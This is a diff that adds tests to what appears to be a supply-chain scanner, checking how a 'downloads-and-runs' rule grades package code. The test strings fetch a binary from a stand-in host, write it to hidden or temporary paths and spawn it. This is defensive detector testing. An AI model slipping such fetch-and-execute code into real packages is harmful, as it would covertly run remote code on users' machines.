@@ -49,3 +49,22 @@ describe('what came over the network', async () => {
     expect(verdicts).toEqual(levels);
   });
 });
+
+describe('a download that is saved and run, unasked', async () => {
+  const rules = await loadRules();
+  const START = "const fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process');";
+  test.each([
+    ['in a folder for the programs of a user', "path.join(os.homedir(), '.local', 'bin', 'tides')", 'review'],
+    ['in a folder with a dot', "path.join(__dirname, '.staging', process.platform)", 'review'],
+    ['under a name that ends in .exe', '`${__dirname}/bin/${process.platform}.exe`', 'pass'],
+    ['under a name with a dot', "path.join(os.homedir(), '.local', '.tides')", 'block'],
+    ['under one that is partly known', '`${os.homedir()}/.${process.pid}`', 'block'],
+    ['in a folder that is thrown away', "path.join(os.tmpdir(), 'tides')", 'block'],
+  ])('%s', (_, place, level) => {
+    const code = `${START}const file=${place};fetch('https://get.example/tides').then((r)=>r.arrayBuffer()).then((b)=>{fs.writeFileSync(file,Buffer.from(b));cp.spawn(file,[])})`;
+    const { value } = check(rules, { kind: 'package', package: packageOf({ name: '', code }), root: true });
+    const findings = value.filter(({ rule }) => rule === 'downloads-and-runs');
+    const target = findings[0]?.package ?? '';
+    expect(judge({ findings, gaps: [], policy: POLICY, target, static: false }).level).toBe(level);
+  });
+});
